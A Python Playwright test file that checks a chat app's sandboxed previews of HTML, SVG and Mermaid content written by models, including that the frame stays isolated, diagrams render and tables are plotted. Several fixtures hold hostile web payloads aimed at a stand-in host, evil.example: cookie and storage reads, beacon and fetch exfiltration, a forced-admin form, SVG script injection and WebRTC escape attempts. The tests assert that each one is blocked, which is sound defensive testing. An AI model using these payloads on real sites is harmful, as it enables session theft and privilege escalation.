"""Previews of what models write: shown in an isolated frame, and closed immediately."""

import socket
from urllib.parse import urljoin, urlsplit
from uuid import uuid4
from xml.etree import ElementTree

import pytest
from playwright.sync_api import FrameLocator, expect

from tests.browser.chats import ChatPage, layout_shift, reload
from tests.browser.conftest import Person, Visit
from tests.browser.test_accessibility import MOVES, violations
from tests.support.inserted import add_member
from tests.support.server import Server
from tests.upstream.handle import Upstream

pytestmark = pytest.mark.slow
HELLO = "```html\n<p id=said>not run</p><script>said.textContent = 'It runs: ' + origin</script>\n```\n\n"
ENDLESS = "```html\n<script>parent.postMessage('begun', '*'); setTimeout(() => { for (;;); })</script>\n```\n\n"
PICTURE = '```svg\n<svg viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>\n```\n'
DIAGRAM = "```mermaid\ngraph TD\n  A[Head race] --> B{Wheel?}\n  B -->|turns| C[Tail race]\n```\n\n"
BROKEN = "```mermaid\ngraph TD\n  A[[[ --> <img src=x onerror=alert(1)>\n```\n\n"
# Everything a script in a frame could try to reach the outside; each refused attempt is recorded in the frame.
HOSTILE = """```html
<p id=said>tries</p><form id=f action="https://evil.example/form" method=post target=_top></form>
<img src="https://evil.example/picture"><link rel=stylesheet href="https://evil.example/sheet">
<script src="https://evil.example/script"></script>
<script>
const tried = [];
const attempt = (name, act) => {
  try { const came = act(); tried.push(name + ': ' + came) } catch (error) { tried.push(name + ': no') }
};
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('parent', () => parent.document.title);
attempt('top', () => { top.location = 'https://evil.example/top'; });
attempt('popup', () => open('https://evil.example/popup'));
attempt('form', () => f.submit());
attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
fetch('https://evil.example/fetch').catch(() => tried.push('fetch: no')).finally(() => { said.textContent = tried.join(', '); });
// Not before all that was told: the frame is empty then.
onmessage = () => { location = 'https://evil.example/self'; };
</script>
```
"""


def shown(server: Server, upstream: Upstream, visit: Visit, text: str, **options: object) -> ChatPage:
    upstream.says(text)
    chat = visit(server, **options).begin("Show me")
    chat.expect("completed")
    # This link arrives last, with the answer in a new element.
    expect(chat.page.locator(".sent-link")).to_be_attached()
    return chat


def run(chat: ChatPage) -> None:
    """Runs the scripts of the page `HELLO`, which don't run before, in the panel or on its page."""
    said = chat.page.frame_locator("iframe").locator("#said")
    expect(said).to_have_text("not run")
    chat.page.get_by_role("button", name="Run scripts").click()
    expect(said).to_have_text("It runs: null")


def test_what_is_opened_at_the_end_stays_under_the_pointer(server: Server, upstream: Upstream, visit: Visit) -> None:
    chat = shown(server, upstream, visit, "Around the mill.\n\n" * 20 + HELLO + "The end.")
    page, link = chat.page, chat.answer.locator("a.view")
    page.wait_for_function("() => document.documentElement.scrollHeight - innerHeight - scrollY < 2")
    before = link.bounding_box()
    link.click()
    run(chat)
    # All changes after the answer's end are painted by the next frame.
    page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    after = link.bounding_box()
    assert before
    assert after
    assert abs(after["y"] - before["y"]) < 2


@pytest.mark.mostly_deep
def test_a_page_and_a_picture_are_shown_and_closed(server: Server, upstream: Upstream, visit_anywhere: Visit) -> None:
    chat = shown(server, upstream, visit_anywhere, HELLO + PICTURE)
    page, links = chat.page, chat.answer.locator("a.view")
    expect(links).to_have_count(2)
    assert not page.evaluate("performance.getEntriesByType('resource').some(({name}) => name.includes('mermaid'))")
    panel = page.get_by_role("dialog", name="Show me")
    links.first.click()
    expect(panel.frame_locator("iframe").locator("#said")).to_have_text("not run")
    panel.get_by_role("button", name="Run scripts").click()
    expect(panel.frame_locator("iframe").locator("#said")).to_have_text("It runs: null")
    links.first.click()
    expect(page.locator("#panel iframe")).to_have_count(0)
    links.first.click()
    expect(panel.get_by_role("button", name="Run scripts")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#panel iframe")).to_have_count(0)
    expect(links.first).to_be_focused()
    links.last.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog", name="Drawing").frame_locator("iframe").locator("circle")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_script_that_never_ends_holds_up_its_frame_alone(server: Server, upstream: Upstream, visit: Visit) -> None:
    """Chromium runs a frame without an origin in a separate process."""
    chat = shown(server, upstream, visit, ENDLESS)
    page, link = chat.page, chat.answer.locator("a.view")
    page.evaluate("addEventListener('message', ({data}) => { document.body.dataset.said = data; })")
    link.click()
    page.get_by_role("button", name="Run scripts").click()
    expect(page.locator("body")).to_have_attribute("data-said", "begun")
    # Many event loop iterations of the page: a script in the same process would prevent them.
    page.evaluate("(async () => { for (let n = 0; n < 50; n++) await new Promise(setTimeout); })()")
    chat.box.fill("Still here")
    link.click()
    expect(page.locator("iframe")).to_have_count(0)


def test_without_scripts_its_link_leads_to_a_page_and_that_of_a_diagram_to_its_source(
    server: Server, upstream: Upstream, visit: Visit
) -> None:
    chat = shown(server, upstream, visit, PICTURE + "\n" + DIAGRAM)
    page = visit(server, java_script_enabled=False, viewport={"width": 390, "height": 844}).open(chat.path)
    page.get_by_role("link", name="Preview").first.click()
    expect(page.frame_locator("iframe").locator("circle")).to_be_visible()
    page.get_by_role("link", name="Back to the chat").click()
    assert chat.path in page.url
    page.get_by_role("link", name="Preview").last.click()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("This diagram needs JavaScript.")).to_be_visible()
    expect(frame.locator("#source")).to_contain_text("A[Head race] --> B")


def test_a_hostile_page_reaches_nobody(server: Server, upstream: Upstream, visit_anywhere: Visit) -> None:
    upstream.says(HOSTILE)
    person = visit_anywhere(server)
    chat = person.begin("Show me")
    chat.expect("completed")
    asked: list[str] = []
    # Requests to this host are recorded and aborted.
    person.context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    here, pages = chat.page.url, person.context.pages
    chat.answer.locator("a.view").click()
    chat.page.get_by_role("button", name="Run scripts").click()
    said = chat.page.frame_locator("iframe").locator("#said")
    expect(said).to_contain_text("fetch: no")
    words = said.text_content() or ""
    for name in ("cookie", "storage", "parent", "top"):
        assert f"{name}: no" in words, words
    assert "popup: null" in words
    chat.page.evaluate("document.querySelector('iframe').contentWindow.postMessage('leave', '*')")
    expect(said).to_have_count(0)
    chat.page.wait_for_timeout(1_000)
    assert (asked, chat.page.url, person.context.pages) == ([], here, pages)
    person.oddities.clear()


HOSTILE_PICTURE = """```svg
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"
  onload="document.querySelector('circle').setAttribute('r', 1)">
<script>document.querySelector("circle").setAttribute("r", 2); parent.document.body.dataset.said = "reached"</script>
<image href="https://evil.example/picture"/><use xlink:href="https://evil.example/use#x"/>
<style>@import url("https://evil.example/sheet"); circle { fill: url("https://evil.example/fill") }</style>
<foreignObject><iframe src="https://evil.example/frame"></iframe></foreignObject>
<circle cx="5" cy="5" r="4"/></svg>
```
"""

# A page as ours are made, whose body does something in the name of who reads it.
IMITATION = """```html
<html><head><script src="{script}"></script></head><body class="frame">
<div class="frame"><main id="main" tabindex="-1"><p id=said>not run</p><script>said.textContent = "It runs: " + origin</script>
<form hx-post="/people/{member}/role" hx-trigger="load" hx-swap="none"><input name="role" value="admin"></form></main></div>
</body></html>
```
"""


def test_a_link_to_what_a_message_contains_does_nothing_in_the_name_of_its_reader(
    server: Server, upstream: Upstream, visit_anywhere: Visit
) -> None:
    email = f"{uuid4()}@example.org"
    add_member(server, email)
    member = server.rows("SELECT id FROM users WHERE email = ?", email)[0][0]
    chat = visit_anywhere(server).begin("Hello")
    chat.expect("completed")
    upstream.says(IMITATION.format(script=chat.page.evaluate("document.head.querySelector('script[src]').src"), member=member))
    chat.ask("Show me")
    chat.expect("completed")
    frame = str(chat.answer.locator("a.view").get_attribute("href")).replace("/preview?", "/frame?")
    address = urljoin(chat.page.url, frame)
    upstream.says(f"[Look at this]({address}) or [run this]({address}&scripts=run)")
    chat.ask("And now?")
    chat.expect("completed")

    for name in ("Look at this", "run this"):
        chat.answer.get_by_role("link", name=name).click()
        # All that such a link opens is our page around what was written, and nothing in that runs.
        expect(chat.page.get_by_role("heading", name="Hello")).to_be_visible()
        expect(chat.page.frame_locator("iframe").locator("#said")).to_have_text("not run")
        chat.page.go_back()
    assert server.rows("SELECT role FROM users WHERE id = ?", member) == [("member",)]


# Each way to WebRTC. `{}` is the port of a STUN server that must hear nothing.
CALLING = """```html
<p id=said>tries</p>
<div><template shadowrootmode=open><iframe srcdoc="<script>parent.call(self)</script>"></iframe></template></div>
<script>
const call = (from) => {{
  const peer = new from.RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{}" }}] }});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  parent.postMessage("called", "*");
}};
const attempt = (act) => {{ try {{ act(); }} catch {{ /* Refused, as it has to be. */ }} }};
const child = (root, code) => root.append(Object.assign(document.createElement("iframe"), {{
  srcdoc: `<script>const call = ${{call}}; call(self)<${{"/script"}}>`, ...code,
}}));
const host = () => document.body.appendChild(document.createElement("div"));
attempt(() => call(window));
attempt(() => child(document.body, {{}}));
attempt(() => child(document.body, {{ srcdoc: null, src: `javascript:(${{call}})(self)` }}));
attempt(() => child(host().attachShadow({{ mode: "closed" }}), {{}}));
attempt(() => {{ host().innerHTML = `<iframe srcdoc="<script>(${{call}})(self)<${{"/script"}}>"></iframe>`; }});
attempt(() => {{ host(); call(window[0]); }});
attempt(() => document.write(`<div><template shadowrootmode=open><iframe srcdoc="x"></iframe></template></div>`));
setTimeout(() => {{ said.textContent = "tried"; }}, 500);
</script>
```
"""


@pytest.mark.mostly_deep
def test_a_preview_opens_no_connection(server: Server, upstream: Upstream, visit_anywhere: Visit) -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        upstream.says(CALLING.format(stun.getsockname()[1]))
        _try_to_call(visit_anywhere(server))
        with pytest.raises(BlockingIOError):
            stun.recv(1)


def _try_to_call(person: Person) -> None:
    chat = person.begin("Show me")
    chat.expect("completed")
    called: list[str] = []
    chat.page.expose_function("called", lambda said: called.append(said))
    chat.page.evaluate("addEventListener('message', ({data}) => called(data))")
    chat.answer.locator("a.view").click()
    expect(chat.page.frame_locator("iframe").locator("#said")).to_have_text("tries")
    chat.page.get_by_role("button", name="Run scripts").click()
    expect(chat.page.frame_locator("iframe").locator("#said")).to_have_text("tried")
    chat.page.wait_for_timeout(1_000)

    assert called == []
    person.oddities.clear()


def test_without_our_scripts_a_page_runs_by_form(server: Server, upstream: Upstream, visit: Visit) -> None:
    chat = shown(server, upstream, visit, HELLO)
    chat.page.goto(str(chat.answer.locator("a.view").get_attribute("href")))
    run(chat)
    chat.page.goto(chat.page.url + "&scripts=run")
    expect(chat.page.frame_locator("iframe").locator("#said")).to_have_text("not run")


def test_the_frame_by_itself_is_not_opened(server: Server, upstream: Upstream, visit_anywhere: Visit) -> None:
    chat = shown(server, upstream, visit_anywhere, HELLO)
    address = str(chat.answer.locator("a.view").get_attribute("href"))
    chat.page.goto(address.replace("/preview?", "/frame?"))
    expect(chat.page.get_by_role("heading", name="Show me")).to_be_visible()


@pytest.mark.parametrize("width", [1100, 390])
def test_a_diagram_in_a_message_is_as_wide_as_the_text(server: Server, upstream: Upstream, visit: Visit, width: int) -> None:
    wide = "```mermaid\nflowchart LR\n  A[River] --> B{Otters?}\n  B -->|yes| C[Count]\n  B -->|no| D[Wait]\n```"
    chat = shown(server, upstream, visit, wide, viewport={"width": width, "height": 800})
    svg = drawn_in(chat).locator("svg")
    expect(svg).to_be_visible(timeout=60_000)
    assert svg.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
    assert svg.evaluate("() => document.documentElement.scrollHeight <= innerHeight")


@pytest.mark.mostly_deep
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1100, 390])
def test_a_diagram_is_drawn(server: Server, upstream: Upstream, visit: Visit, scheme: str, width: int) -> None:
    chat = shown(server, upstream, visit, DIAGRAM, color_scheme=scheme, viewport={"width": width, "height": 800})
    expect(drawn_in(chat).locator("svg")).to_be_visible(timeout=60_000)
    asked: list[str] = []
    # A page where htmx swaps nothing.
    address = str(chat.answer.locator("a.view").get_attribute("href"))
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.page.goto(address)
    frame = chat.page.frame_locator("iframe")
    expect(frame.locator("svg").get_by_text("Tail race")).to_be_visible(timeout=60_000)
    expect(frame.locator("#source")).to_be_hidden()
    assert len([url for url in asked if "/static/vendor/mermaid.min.js" in url]) == 1
    assert all(url.startswith(server.url) for url in asked)
    assert frame.locator("body").evaluate("() => matchMedia('(prefers-color-scheme: dark)').matches") == (scheme == "dark")
    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    # In our colours: a box is a wash of water.
    box = frame.locator("svg .node rect").first.evaluate("box => getComputedStyle(box).fill")
    assert box == {"light": "rgb(221, 241, 246)", "dark": "rgb(18, 45, 54)"}[scheme]
    with chat.page.expect_download() as saved:
        frame.get_by_role("link", name="Download as SVG").click()
    assert saved.value.suggested_filename == "diagram.svg"
    file = ElementTree.parse(saved.value.path())
    assert file.getroot().tag == "{http://www.w3.org/2000/svg}svg"


def test_a_diagram_that_cannot_be_drawn_says_so(server: Server, upstream: Upstream, visit: Visit) -> None:
    chat = shown(server, upstream, visit, BROKEN + "```mermaid\ngraph TD\n" + "  A --> B\n" * 6_000 + "```\n")
    addresses = [str(link.get_attribute("href")) for link in chat.answer.locator("a.view").all()]
    for address, words in zip(addresses, ("couldn't be drawn", "too long to be drawn"), strict=True):
        chat.page.goto(address)
        frame = chat.page.frame_locator("iframe")
        expect(frame.locator("#said")).to_contain_text(words, timeout=60_000)
        expect(frame.locator("#source")).to_contain_text("graph TD")
        expect(frame.locator("svg, img")).to_have_count(0)


def drawn_in(chat: ChatPage, number: int = 0) -> FrameLocator:
    return chat.answer.locator("iframe.drawn").nth(number).content_frame


STROKE = "box => getComputedStyle(box).stroke"


def test_a_diagram_is_drawn_in_the_place_of_its_source(server: Server, upstream: Upstream, visit: Visit) -> None:
    upstream.says("It turns:\n\n" + DIAGRAM + PICTURE, pace=0.01)
    person = visit(server, viewport={"width": 1280, "height": 800}, color_scheme="dark")
    person.context.add_init_script(MOVES)
    chat = person.begin("Show me")
    chat.expect("completed")
    block = chat.answer.locator(".code").first
    source = block.locator("pre")
    expect(drawn_in(chat).locator("svg").get_by_text("Tail race")).to_be_visible(timeout=60_000)
    expect(source).to_be_hidden()
    box, drawing = block.bounding_box(), drawn_in(chat).locator("svg").bounding_box()
    assert box
    assert drawing
    assert drawing["height"] <= 0.6 * 800
    assert drawing["y"] >= box["y"]
    assert drawing["y"] + drawing["height"] <= box["y"] + box["height"]
    assert drawn_in(chat).locator("svg .node rect").first.evaluate(STROKE) == "rgb(111, 203, 218)"
    expect(drawn_in(chat, 1).locator("circle")).to_be_visible()
    # Its source is as high: nothing below it moves.
    block.get_by_role("button", name="Show the source").click()
    expect(source).to_be_visible()
    assert block.evaluate("block => block.offsetHeight") == box["height"]
    block.get_by_role("button", name="Show the diagram").click()
    expect(source).to_be_hidden()
    assert violations(chat.page) == []
    chat.page.emulate_media(color_scheme="light", contrast="more")
    reload(chat.page)
    expect(drawn_in(chat).locator("svg").get_by_text("Tail race")).to_be_visible(timeout=60_000)
    assert drawn_in(chat).locator("svg .node rect").first.evaluate(STROKE) == "rgb(0, 81, 104)"
    assert violations(chat.page) == []


def test_while_an_answer_streams_its_source_is_shown_and_nothing_moves(server: Server, upstream: Upstream, visit: Visit) -> None:
    upstream.behaves([{"says": DIAGRAM + "And so on. " * 40, "pace": 0.03, "holds": [9]}])
    person = visit(server, viewport={"width": 1280, "height": 800})
    person.context.add_init_script(MOVES)
    chat = person.begin("Show me")
    chat.wait_for("graph TD")
    expect(chat.answer.locator("iframe")).to_have_count(0)
    upstream.goes_on()
    expect(drawn_in(chat).locator("svg").get_by_text("Tail race")).to_be_visible(timeout=60_000)
    chat.expect("completed")
    expect(drawn_in(chat).locator("svg").get_by_text("Tail race")).to_be_visible()
    assert chat.page.evaluate("moves") == []
    shifts = chat.page.evaluate("shifts")
    assert layout_shift(shifts) < 0.02, shifts


def test_a_diagram_in_an_answer_that_cannot_be_drawn_shows_its_source(server: Server, upstream: Upstream, visit: Visit) -> None:
    chat = shown(server, upstream, visit, BROKEN)
    expect(drawn_in(chat).locator("#said")).to_contain_text("couldn't be drawn", timeout=60_000)
    expect(drawn_in(chat).locator("#source")).to_contain_text("onerror")
    expect(drawn_in(chat).locator("img")).to_have_count(0)


@pytest.mark.mostly_deep
def test_a_hostile_picture_that_is_drawn_at_once_does_nothing(server: Server, upstream: Upstream, visit_anywhere: Visit) -> None:
    upstream.says(HOSTILE_PICTURE)
    person = visit_anywhere(server)
    asked: list[str] = []
    person.context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    chat = person.begin("Show me")
    chat.expect("completed")
    expect(drawn_in(chat).locator("circle")).to_be_visible()
    chat.page.wait_for_timeout(1_000)
    assert asked == []
    assert chat.page.evaluate("document.body.dataset.said ?? ''") == ""
    expect(drawn_in(chat).locator("circle")).to_have_attribute("r", "4")
    assert chat.path in chat.page.url
    person.oddities.clear()


@pytest.mark.mostly_deep
def test_a_hostile_page_that_is_published_reaches_nobody(
    server: Server, upstream: Upstream, visit: Visit, visit_anywhere: Visit
) -> None:
    upstream.says(HOSTILE)
    owner = visit(server)
    chat = owner.begin("Show me")
    chat.expect("completed")
    chat.answer.locator("a.view").click()
    chat.page.get_by_role("link", name="Publish").click()
    chat.page.get_by_role("button", name="Create link").click()
    address = urlsplit(chat.page.locator(".entries--links input").first.input_value()).path
    reader = visit_anywhere(server, is_signed_in=False)
    asked: list[str] = []
    reader.context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    page = reader.open(address)
    here, pages = page.url, reader.context.pages
    page.get_by_role("button", name="Run scripts").click()
    said = page.frame_locator("iframe").locator("#said")
    expect(said).to_contain_text("fetch: no")
    for name in ("cookie", "storage", "parent", "top"):
        expect(said).to_contain_text(f"{name}: no")
    expect(said).to_contain_text("popup: null")
    page.evaluate("document.querySelector('iframe').contentWindow.postMessage('leave', '*')")
    expect(said).to_have_count(0)
    page.wait_for_timeout(1_000)
    assert (asked, page.url, reader.context.pages) == ([], here, pages)
    reader.oddities.clear()
    owner.oddities.clear()
    page.goto(here)
    page.get_by_role("link", name="Source").click()
    expect(page.locator("pre")).to_contain_text("evil.example/form")
    assert violations(page) == []
    reader.oddities.clear()


VALUES = "| Month | Value |\n|---|--:|\n| January | {} |\n| February | -2 |\n| March | 4 |\n\n"


def test_a_table_is_plotted_and_has_versions(server: Server, upstream: Upstream, visit: Visit) -> None:
    chat = shown(server, upstream, visit, VALUES.format(1), viewport={"width": 1280, "height": 800}, color_scheme="dark")
    upstream.says(VALUES.format(3))
    chat.ask("Again")
    chat.expect("completed")
    page = chat.page
    chat.answer.get_by_role("link", name="Open in side panel").click()
    panel, plot = page.locator("#panel"), page.frame_locator("#panel iframe").locator("svg").first
    expect(plot.locator("circle")).to_have_count(3)
    expect(plot.locator("circle title").first).to_have_text("January · Value: 3")
    panel.get_by_role("link", name="Earlier version").click()
    expect(plot.locator("circle title").first).to_have_text("January · Value: 1")
    panel.get_by_role("link", name="Table").click()
    expect(panel.get_by_role("cell", name="-2")).to_be_visible()
    assert violations(page) == []
    with page.expect_download() as saved:
        panel.get_by_role("link", name="Download").click()
    assert saved.value.suggested_filename == "month-value.csv"
